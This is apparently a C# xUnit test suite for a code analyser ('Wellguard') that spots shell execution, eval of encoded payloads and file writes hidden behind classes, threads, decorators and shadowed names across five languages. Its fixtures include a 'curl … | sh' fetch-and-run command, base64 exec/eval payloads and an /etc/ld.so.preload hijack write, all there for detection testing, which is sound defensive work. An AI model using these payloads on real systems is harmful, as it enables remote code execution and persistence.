using Wellguard.Programs;
using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

public sealed class ClassTests
{
    private const string Fetch = "curl http://192.0.2.1/a|sh";
    private const string Fetches = "Interpret sh = " + Fetch;

    [Theory]
    [InlineData("python", "class Exec: pass\nexec(__import__('base64').b64decode('aW1wb3J0IG9z'))", "Interpret python = import os [base64]")]
    [InlineData("python", "def f():\n    class exec: pass\n    return 1\nexec(__import__('base64').b64decode('aW1wb3J0IG9z'))", "Interpret python = import os [base64]")]
    [InlineData("python", "class A:\n    def open(self, x, y): return x\nopen('/etc/ld.so.preload','w').write('/tmp/x.so')", "Write /etc/ld.so.preload = /tmp/x.so")]
    [InlineData("javascript", "class Eval {}\neval(atob('cmVxdWlyZSgnZnMnKQ=='))", "Interpret javascript = require('fs') [base64]")]
    [InlineData("php", "<?php class A { function exec($x) { return $x; } } exec('id');", "Interpret sh = id")]
    [InlineData("php", "<?php if (false) { function system($x) {} } system('id');", "Interpret sh = id")]
    [InlineData("perl", "sub system { return 1 }\nsystem('id');", "Interpret sh = id")]
    [InlineData("ruby", "class A\n  def system(c)\n    puts c\n  end\nend\nsystem('id')", "Interpret sh = id")]
    public void A_definition_elsewhere_hides_no_known_function(string language, string code, params string[] expected) =>
        Assert.Equal(expected, Evaluation.Lines(language, code));

    [Theory]
    [InlineData("python", "class exec:\n    def __init__(self, x): self.x = x\nexec('aW1wb3J0IG9z')")]
    [InlineData("python", "def exec(x):\n    return x\nexec('import os; os.system(1)')")]
    public void A_definition_of_the_text_itself_hides_one(string language, string code) => Assert.Empty(Evaluation.Lines(language, code));

    [Theory]
    [InlineData("python", "import os\nclass J:\n    class Meta:\n        x = 1\n    def __init__(self, c):\n        os.system(c)\nJ('" + Fetch + "')", Fetches)]
    [InlineData("python", "import os\nclass A:\n    def go(self, c):\n        os.system(c)\nclass B:\n    def go(self, c):\n        return c\nA().go('" + Fetch + "')", Fetches)]
    [InlineData("python", "import os\nclass A:\n    def go(self, c):\n        return c\nclass B:\n    def go(self, c):\n        os.system(c)\nA().go('" + Fetch + "')")]
    [InlineData("python", "import os\nclass A:\n    def go(self, c):\n        os.system(c)\nclass B(A):\n    def __init__(self, c):\n        self.go(c)\nclass C(B):\n    def __init__(self, c):\n        super().__init__(c)\nC('" + Fetch + "')", Fetches)]
    [InlineData("python", "import subprocess\nclass P(subprocess.Popen): pass\nP('" + Fetch + "', shell=True)", Fetches)]
    [InlineData("python", "from subprocess import Popen\nclass P(Popen):\n    def __init__(self, c):\n        super().__init__(c, shell=True)\nP('" + Fetch + "')", Fetches)]
    [InlineData("python", "import os\nclass A:\n    def m(self): os.system(self.c)\na = A()\na.c = '" + Fetch + "'\na.m()", Fetches)]
    [InlineData("javascript", "const cp = require('child_process');\nclass B { go(c) { cp.exec(c) } }\nclass A extends B { static s() { new A().go('" + Fetch + "') } }\nA.s()", Fetches)]
    [InlineData("javascript", "const cp = require('child_process');\nconst A = class extends B { constructor() { super(); this.go('" + Fetch + "') } go(c) { cp.exec(c) } }\nnew A()", Fetches)]
    [InlineData("javascript", "const cp = require('child_process'); function A(c) { this.c = c }\nA.prototype.go = function() { cp.exec(this.c) }\nnew A('" + Fetch + "').go()", Fetches)]
    [InlineData("php", "<?php class A { private $c; function __construct($c) { $this->c = $c; } function __destruct() { system($this->c); } } new A('" + Fetch + "');", Fetches)]
    public void Methods_belong_to_their_class(string language, string code, params string[] expected) =>
        Assert.Equal(expected, Evaluation.Lines(language, code));

    [Theory]
    [InlineData("python", "import threading, os\nclass A:\n    def f(self): os.system('id')\n    def g(self): threading.Thread(target=self.f).start()\nA().g()", false)]
    [InlineData("python", "import threading, os\nclass A(threading.Thread):\n    def run(self): os.system('id')\nA().start()", false)]
    [InlineData("python", "import atexit, os\n@atexit.register\ndef f(): os.system('id')", false)]
    [InlineData("python", "import os\nclass A:\n    def __enter__(self): os.system('id')\nwith A() as x: pass", false)]
    [InlineData("python", "import os\nclass A:\n    def __new__(cls): os.system('id')\nA()", false)]
    [InlineData("python", "import os\nclass A:\n    @property\n    def p(self): os.system('id')\nA().p", false)]
    [InlineData("python", "import os\nclass M(type):\n    def __new__(m, n, b, d): os.system('id')\nclass A(metaclass=M): pass", false)]
    [InlineData("python", "import os\nclass A:\n    def run(self): os.system('id')", true)]
    [InlineData("python", "import os\n@app.route('/')\ndef f(): os.system('id')", true)]
    [InlineData("javascript", "const cp = require('child_process'); (function() { cp.exec('id') }).call(this)", false)]
    [InlineData("javascript", "const cp = require('child_process'); function f() { cp.exec('id') }\nf.bind(null)()", false)]
    [InlineData("javascript", "const cp = require('child_process'); new (class { constructor() { cp.exec('id') } })()", false)]
    [InlineData("javascript", "const cp = require('child_process'); function A() {}\nA.prototype.go = function() { cp.exec('id') }\nnew A().go()", false)]
    [InlineData("javascript", "const cp = require('child_process');\nfunction exec(x) { cp.exec('id') }\nif (/x/.exec(s)) y()", true)]
    public void What_the_text_calls_itself_is_known(string language, string code, bool deferred)
    {
        var effect = Assert.Single(Evaluation.Of(language, code));
        Assert.Equal((EffectKind.Interpret, deferred), (effect.Kind, effect.Deferred));
    }

    [Fact]
    public void A_step_inside_a_command_stands_where_the_call_stands()
    {
        var effect = Assert.Single(Evaluation.Of("javascript", "a();b();require('child_process').exec('curl http://192.0.2.1/a | sh')"));
        Assert.Equal(9, effect.Column);
        Assert.All(effect.Steps, static step => Assert.Equal((1, 9), (step.Line, step.Column)));
    }
}
